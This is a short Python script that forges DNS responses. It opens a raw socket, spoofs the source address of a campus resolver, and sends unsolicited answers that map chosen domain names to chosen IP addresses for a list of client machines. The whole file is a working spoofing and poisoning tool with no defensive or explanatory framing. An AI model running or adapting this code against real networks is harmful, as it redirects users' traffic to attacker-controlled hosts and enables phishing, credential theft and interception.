"""Sends DNS answers that nobody asked for, as if from the campus resolver. Reads a Python list of [client, name, address]."""

import ast
import socket
import struct
import sys

RESOLVER = "192.0.2.53"


def main():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number, (client, name, address) in enumerate(ast.literal_eval(sys.stdin.read())):
        raw.sendto(packet(client, message(number, name, address)), (client, 0))


def message(number, name, address):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
    return struct.pack("!HHHHHH", number, 0x8180, 1, 1, 0, 0) + labels + struct.pack("!HH", 1, 1) + answer


def packet(client, payload):
    udp = struct.pack("!HHHH", 53, 40000, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(RESOLVER), socket.inet_aton(client))
    return head + udp


if __name__ == "__main__":
    main()
